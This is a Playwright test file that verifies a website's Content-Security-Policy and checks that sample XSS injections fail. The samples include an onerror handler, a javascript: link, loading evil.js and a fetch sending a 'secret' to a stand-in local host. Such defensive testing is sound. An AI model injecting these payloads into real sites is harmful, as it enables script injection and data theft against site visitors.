import { createHash } from 'node:crypto';
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { allowed } from '../../deploy/embed-origins';
import { withAliases } from '../../lib/content/aliases';
import { destinations } from '../../lib/content/destinations';
import { contact } from '../../lib/content/pages';
import { site } from '../../lib/content/site';
import type { EmbedName } from '../../lib/embeds';
import {
  documentOf,
  embedOf,
  folder,
  htmlFiles,
  inlineScripts,
  inlineStyles,
  pagePaths,
  pathOf,
} from './exported-site';
import { chatAddress, embeds, expect, frameOf, scriptAddress, test, toast } from './provider-visit';
import type { Page } from '@playwright/test';
import { labelOf, menuLabels } from './labels';
import { watchViolations } from './violations';
import { repeatedUnless } from '../extent';

type Attack = { violated: string[]; ran: boolean };

/** Runs code as if an injection had brought it in, and says which directives spoke and whether it took effect. */
async function attack(page: Page, code: string): Promise<Attack> {
  const violated = new Set<string>();
  await page.exposeFunction('reportDirective', (directive: string) => violated.add(directive));
  await page.evaluate(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      Reflect.get(window, 'reportDirective')(effectiveDirective);
    });
  });
  await page.evaluate(code);
  await expect.poll(() => violated.size).toBeGreaterThan(0);
  return { violated: [...violated], ran: await page.evaluate(() => 'injected' in window) };
}

function hashOf(text: string): string {
  return `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
}

type Policy = Record<string, string[]>;

function policyOf(path: string): Policy {
  const content = documentOf(path).querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content');
  const directives = (content ?? '').split('; ').map((directive) => directive.split(' '));
  return Object.fromEntries(directives.map(([name = '', ...values]) => [name, values]));
}

/** The policy of a page without a provider embed. It allows no other origins. */
function contentPolicy(path: string): Policy {
  const styles = inlineStyles(path).map(hashOf);
  return {
    'default-src': ["'none'"],
    'script-src': ["'self'", ...inlineScripts(path).map(hashOf)],
    // The style sheet of open menus is a file.
    // Browsers ignore 'unsafe-inline', which the chat needs, next to a hash.
    ...(styles.length > 0 && { 'style-src': ["'self'", ...(embedOf(path) === 'chat' ? [] : styles)] }),
    // The page's icon is a data URL.
    'img-src': ["'self'", 'data:'],
    'font-src': ["'self'"],
    'connect-src': ["'self'"],
    'form-action': ["'self'"],
    'base-uri': ["'none'"],
  };
}

/** What a policy allows in addition. */
function additions(path: string): Policy {
  const policy = policyOf(path);
  const expected = contentPolicy(path);
  return Object.fromEntries(
    Object.entries(policy)
      .map(([name, values]) => [name, values.filter((value) => !expected[name]?.includes(value))] as const)
      .filter(([, values]) => values.length > 0),
  );
}

/** If this hash is wrong, a test below fails, because the policy then blocks the toast's styles. */
const [, toastStylesHash = ''] = additions('/schedule')['style-src'] ?? [];

/** The embed of a page, by the name in content/embed-origins.ts. */
function embedNameOf(path: string): EmbedName | undefined {
  const kind = embedOf(path);
  if (kind !== 'frame') return kind;
  const address = documentOf(path).querySelector('[data-frame]')?.getAttribute('data-src');
  return address === contact.frame.destination ? 'form' : 'calendar';
}

/** What a page may allow in addition to a content page. */
function allowedOn(path: string): Policy {
  const name = embedNameOf(path);
  if (!name) return {};
  // Two hashes for the toast library's style element: empty and filled.
  return name === 'chat' ? allowed.chat : { ...allowed[name], 'style-src': [hashOf(''), toastStylesHash] };
}

test.describe('the policy of every exported page', () => {
  for (const path of htmlFiles.map(pathOf)) {
    const embed = embedNameOf(path);

    test(`${path} has the policy of a ${embed ?? 'content'} page, before all other elements`, () => {
      const [first, second] = documentOf(path).querySelectorAll('head > *');
      expect(first?.getAttribute('charset')?.toLowerCase()).toBe('utf-8');
      expect(second?.getAttribute('http-equiv')).toBe('Content-Security-Policy');
      expect(documentOf(path).querySelectorAll('meta[http-equiv="Content-Security-Policy"]').length).toBe(1);
      const unsafe = /unsafe-|strict-dynamic|\*|https?:(?!\/\/)|blob:/;
      if (!embed) expect(second?.getAttribute('content')).not.toMatch(unsafe);
      const own = Object.entries(policyOf(path)).flatMap(([directive, values]) =>
        values.filter((value) => !allowedOn(path)[directive]?.includes(value)),
      );
      expect(own.join(' ')).not.toMatch(unsafe);
      // Code comes from named hosts, on every page.
      expect(policyOf(path)['script-src']?.join(' ')).not.toMatch(/unsafe-|strict-dynamic|https?:(?!\/\/)|data:|blob:/);
      expect(policyOf(path)).toMatchObject(
        Object.fromEntries(
          Object.entries(contentPolicy(path)).map(([name, values]) => [name, expect.arrayContaining(values)]),
        ),
      );
      expect(additions(path)).toEqual(allowedOn(path));
      expect(toastStylesHash).toMatch(/^'sha256-[\w+/]{43}='$/);
    });
  }

  test('allows the chat only on /, and frames only on four pages', () => {
    expect(pagePaths.filter((path) => embedOf(path) === 'chat')).toEqual(['/']);
    const framed = withAliases(['/coaching', '/contact', '/schedule']).toSorted();
    expect(pagePaths.filter((path) => embedOf(path) === 'frame').toSorted()).toEqual(framed);
  });
});

/* Every page is visited in visits.spec.ts; the menu's island is the same on all pages of a kind. */
for (const path of ['/', '/pricing', '/schedule', '/no-such-page']) {
  const details = repeatedUnless(path === '/' || path === '/schedule');
  test(`${path} opens its menu without a violation`, details, async ({ page }) => {
    const violations = await watchViolations(page);
    await page.goto(path, { waitUntil: 'networkidle' });
    const menu = page.getByRole('banner').getByRole('button', { name: menuLabels.pricing });
    await menu.hover();
    await expect(page.locator('[data-component="desktop-menu"]')).toHaveAttribute('data-hydrated', '');
    await menu.click();
    await expect(page.getByRole('banner').getByRole('link', { name: labelOf('/pricing') })).toBeVisible();
    expect(violations).toEqual([]);
  });
}

test('a toast is shown without violations', async ({ page, provider }) => {
  const violations = await watchViolations(page);
  await provider.setMode('404', scriptAddress);
  await page.goto('/schedule');
  await expect(toast(page)).toHaveAttribute('data-type', 'error', { timeout: 12_000 });
  expect(violations).toEqual([]);
});

test('a visit of ten pages that ends with a booking loads ten documents without violations', async ({ page }) => {
  const violations = await watchViolations(page);
  await page.goto('/industries/plumbers');
  const walk = ['/', '/pricing', '/add-on-pricing', '/testimonials', '/contact', '/demo', '/about/founder', '/ai'];
  for (const path of [...walk, '/coaching', '/schedule']) {
    await page.evaluate(() => Object.assign(window, { previousPage: true }));
    // The link may be in the desktop menu, the footer or the page.
    await page.locator(`a[href="${path}"]`).first().dispatchEvent('click');
    await expect(page).toHaveURL(path);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    expect(await page.evaluate(() => 'previousPage' in window), path).toBe(false);
  }
  const [calendar] = embeds;
  await calendar?.use(frameOf(page));
  await expect(page.getByRole('status').filter({ hasText: calendar?.confirmation })).toHaveCount(1);
  expect(violations).toEqual([]);
});

test('a redirect page complies with its policy, keeps the query and sends no referrer', async ({ page }) => {
  const violations = await watchViolations(page);
  // Simulates a host without redirects.
  const body = readFileSync(`${folder}/calendar.html`, 'utf8');
  await page.route('**/calendar?*', (route) => route.fulfill({ contentType: 'text/html', body }));
  const next = page.waitForRequest((request) => new URL(request.url()).pathname === '/schedule');
  await page.goto('/calendar?utm_source=a');
  expect(await (await next).allHeaders()).not.toHaveProperty('referer');
  await expect(page).toHaveURL('/schedule');
  await expect(page.locator('.provider-host iframe')).toHaveAttribute('src', /[?]utm_source=a(?:&|$)/);
  expect(violations).toEqual([]);
});

test.describe('attacks that fail', () => {
  test.beforeEach(async ({ page }) => {
    await page.goto('/contact', { waitUntil: 'networkidle' });
  });

  test('an injected inline script', async ({ page }) => {
    const code = `{ const script = document.createElement('script'); script.textContent = 'window.injected = 1';
      document.body.append(script); }`;
    expect(await attack(page, code)).toEqual({ violated: ['script-src-elem'], ran: false });
  });

  test('an injected event handler', async ({ page }) => {
    const code = `document.querySelector('main').insertAdjacentHTML('beforeend',
      '<img src="/no-such.png" onerror="window.injected = 1">')`;
    expect(await attack(page, code)).toEqual({ violated: ['script-src-attr'], ran: false });
  });

  test('an injected link with a javascript: address', async ({ page }) => {
    const code = `document.querySelector('main').insertAdjacentHTML('beforeend',
      '<a id="evil" href="javascript:window.injected = 1">x</a>'); document.getElementById('evil').click()`;
    expect(await attack(page, code)).toEqual({ violated: ['script-src-elem'], ran: false });
  });

  test('a script made from a string', async ({ page }) => {
    const code = `setTimeout('window.injected = 1', 0); document.title`;
    expect(await attack(page, code)).toEqual({ violated: ['script-src'], ran: false });
  });

  test('a script from another origin', async ({ page }) => {
    const code = `{ const script = document.createElement('script'); script.src = 'http://127.0.0.1:3001/evil.js';
      document.body.append(script); }`;
    expect((await attack(page, code)).violated).toEqual(['script-src-elem']);
  });

  test('a style that would repaint the page', async ({ page }) => {
    const code = `{ const style = document.createElement('style'); style.textContent = 'body { display: none }';
      document.head.append(style); }`;
    expect((await attack(page, code)).violated).toEqual(['style-src-elem']);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  });

  test('a frame of another origin', async ({ page }) => {
    const code = `{ const frame = document.createElement('iframe'); frame.src = 'http://127.0.0.1:3001/stand-in/forger';
      document.body.append(frame); }`;
    expect((await attack(page, code)).violated).toEqual(['frame-src']);
  });

  test('a form that would send data elsewhere', async ({ page }) => {
    const code = `document.querySelector('main').insertAdjacentHTML('beforeend',
      '<form id="evil" action="http://127.0.0.1:3001/"></form>'); document.getElementById('evil').submit()`;
    expect((await attack(page, code)).violated).toEqual(['form-action']);
  });

  test('data sent elsewhere', async ({ page }) => {
    const code = `fetch('http://127.0.0.1:3001/?secret').catch(() => {}); document.title`;
    expect((await attack(page, code)).violated).toEqual(['connect-src']);
  });

  test('an injected base address', async ({ page }) => {
    const code = `{ const base = document.createElement('base'); base.href = 'http://127.0.0.1:3001/';
      document.head.append(base); }`;
    expect((await attack(page, code)).violated).toEqual(['base-uri']);
  });
});

test.describe('content pages must not', () => {
  for (const [what, directive, code] of [
    [
      'run the provider’s script',
      'script-src-elem',
      `document.body.append(Object.assign(document.createElement('script'), { src }))`,
    ],
    [
      'show the provider’s frame',
      'frame-src',
      `document.body.append(Object.assign(document.createElement('iframe'), { src }))`,
    ],
    ['send requests to the provider', 'connect-src', `fetch(src).catch(() => {})`],
  ] as const) {
    test(what, async ({ page }) => {
      await page.goto('/pricing');
      const { violated } = await attack(page, `{ const src = '${scriptAddress}form_embed.js'; ${code}; }`);
      expect(violated).toEqual([directive]);
    });
  }
});

for (const [path, what, address] of [
  ['/', 'frame’s', scriptAddress],
  ['/schedule', 'chat’s', chatAddress],
] as const) {
  test(`a script from the ${what} host must not run on ${path}`, async ({ page }) => {
    await page.goto(path, { waitUntil: 'networkidle' });
    const code = `document.body.append(Object.assign(document.createElement('script'), { src: '${address}evil.js' }))`;
    expect((await attack(page, code)).violated).toEqual(['script-src-elem']);
  });
}

test('another site cannot frame this one', async ({ page, baseURL }) => {
  const otherSite = createServer((_request, response) => {
    response.setHeader('Content-Type', 'text/html');
    response.end(`<iframe src="${baseURL}/schedule"></iframe>`);
  }).listen(0, '127.0.0.1');
  await once(otherSite, 'listening');
  const refused = page.waitForEvent('console', (message) => /frame-ancestors|X-Frame-Options/.test(message.text()));
  await page.goto(`http://127.0.0.1:${(otherSite.address() as AddressInfo).port}/`);
  expect((await refused).type()).toBe('error');
  await expect(page.frameLocator('iframe').getByRole('heading', { level: 1 })).toHaveCount(0);
  otherSite.close();
});

const securityPath = '/.well-known/security.txt';

test('security.txt says whom to tell about a weakness, and until when it holds', () => {
  const lines = readFileSync(`${folder}${securityPath}`, 'utf8').trimEnd().split('\n');
  const fields = new Map(lines.map((line) => line.split(/: (.*)/) as [string, string]));
  expect([...fields.keys()]).toEqual(['Contact', 'Expires', 'Preferred-Languages', 'Canonical']);
  expect(fields.get('Contact')).toBe(`mailto:${destinations.securityContact.address}`);
  expect(fields.get('Canonical')).toBe(`${site.url}${securityPath}`);
  const days = (Date.parse(fields.get('Expires') ?? '') - Date.now()) / (24 * 60 * 60 * 1_000);
  // The standard wants less than a year.
  expect(days).toBeGreaterThan(300);
  expect(days).toBeLessThan(365);
});
